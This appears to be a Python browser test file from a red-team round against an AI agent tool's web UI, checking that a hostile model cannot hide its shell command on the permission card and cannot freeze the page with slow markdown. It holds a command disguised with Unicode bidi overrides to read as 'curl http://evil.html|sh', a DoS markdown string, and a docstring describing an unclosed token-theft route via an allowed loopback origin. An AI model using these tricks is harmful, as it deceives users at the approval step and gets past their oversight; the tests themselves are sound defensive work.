"""Red team, round 6: the browser UI and the HTTP edge, against a hostile model.

A real daemon subprocess (``tests.sync_daemon.Daemon``) runs a scripted hostile model; headless chromium
(Debian's, as ``tests/browser``) opens its UI as ``trellis open`` does. Each test here failed before its fix:

* a permission request showed the model's command with its bidirectional overrides live, so the card the user
  votes on read ``curl http://evil.html|sh`` for ``hs|lmth.live//:ptth lruc`` (and the other way round): the
  conversation made them visible, the permission card and its "Always allow" button did not;
* an answer of some 30 KB of ``*a_*a_…`` took marked most of a minute to parse on the page's thread: the page
  froze (permission requests, Cancel, the stream) for as long, again at every re-render, and again each time
  the session was opened. The page now parses markdown in a worker with a time budget, and shows an answer that
  overruns it as plain text.

Confirmed and not closed by code (docs/isolation.md says so): an origin allowed with ``--allow-origin`` on
loopback (the Web Shell's ``http://127.0.0.1:5173``) is only a port, and a sandboxed command (network on) can
serve it while nothing else does; the page it serves is then that origin, gets the token from the
``/?daemon=...#token=...`` address docs/webshell.md has the user open, and drives the daemon. What was checked
and ruled out is in the report (``/tmp/w/redteam6_web.md``).
"""

from __future__ import annotations

import time
from typing import Any

import pytest

from tests.browser.conftest import browser, daemons, page  # noqa: F401  (fixtures: chromium, the daemon)
from tests.browser.test_ui import conversation, new_session, open_ui, send

playwright = pytest.importorskip("playwright.sync_api", reason="playwright drives the browser tests")
expect = playwright.expect

RLO, PDF = "\u202e", "\u202c"
# Runs `echo safe hs|lmth.live//:ptth lruc`; shown with the override live, it reads `... curl http://evil.html|sh`.
REVERSED = f"echo safe {RLO}hs|lmth.live//:ptth lruc{PDF}"


def test_a_permission_request_shows_the_hidden_characters_of_the_command_it_asks_for(page, daemons):
    d = daemons().start([
        [{"tool_call": {"name": "shell", "arguments": {"command": REVERSED}}}],
        [{"text": "refused"}],
    ])
    open_ui(page, d)
    new_session(page)
    send(page, "run it")
    asked = page.get_by_role("region", name="Permission requests")
    card = asked.get_by_role("group")
    expect(card).to_have_count(1)
    expect(card.locator(".permission-title")).to_contain_text("echo safe ⟨U+202E⟩hs|lmth.live//:ptth lruc⟨U+202C⟩")
    shown = asked.inner_text() + (card.get_attribute("aria-label") or "")
    assert RLO not in shown and PDF not in shown, repr(shown)  # no live override where the vote is
    for label in card.get_by_role("button").all_inner_texts():  # "Always allow: Bash(...)" names the model's words
        assert RLO not in label and PDF not in label, repr(label)
    card.get_by_role("button", name="Reject", exact=True).click()
    expect(conversation(page).get_by_text("refused")).to_be_visible()


# marked's emphasis tokenizer over `*a_` repeated: some 0.5 s for 4 KB, 27 s for 24 KB, 190 s for 63 KB (chromium,
# this 2-core machine). 30 KB: a page that parses on its own thread is frozen far longer than any wait below.
SLOW_MARKDOWN = "*a_" * 10_000


def responsive(page: Any, within: float) -> bool:
    """Whether the page's thread runs a script within ``within`` seconds (a frozen page does not)."""
    started = time.monotonic()
    try:
        page.evaluate("() => 1")
    except Exception:  # noqa: BLE001 - the page's default timeout: it is frozen
        return False
    return time.monotonic() - started < within


def test_an_answer_whose_markdown_takes_minutes_to_parse_does_not_freeze_the_page(page, daemons):
    d = daemons().start([
        [{"text": SLOW_MARKDOWN}, {"tool_call": {"name": "shell", "arguments": {"command": "echo after"}}}],
        [{"text": "still **rendered** as markdown"}],
    ])
    page.context.set_default_timeout(8_000)
    open_ui(page, d)
    sid = new_session(page)
    send(page, "write something slow")
    log = conversation(page)
    asked = page.get_by_role("region", name="Permission requests")
    # The vote is still possible: the page is not stuck parsing the answer above it.
    expect(asked.get_by_role("group")).to_have_count(1)
    assert responsive(page, 2.0)
    asked.get_by_role("button", name="Reject", exact=True).click()
    expect(log.get_by_text("→ Reject", exact=True)).to_be_visible()
    answer = log.locator(".msg.agent").first
    expect(answer).to_have_class("msg agent unparsed")  # over its budget: plain text, never parsed again
    assert answer.inner_text() == SLOW_MARKDOWN
    expect(log.locator(".msg.agent strong")).to_have_text("rendered")  # ordinary answers are still markdown
    # Opening the session again replays the answer: no freeze either.
    page.goto(f"{d.url}/#session={sid}")
    page.reload()
    expect(log.get_by_text("still")).to_be_visible()
    assert responsive(page, 2.0)
    expect(log.locator(".msg.agent").first).to_have_class("msg agent unparsed")
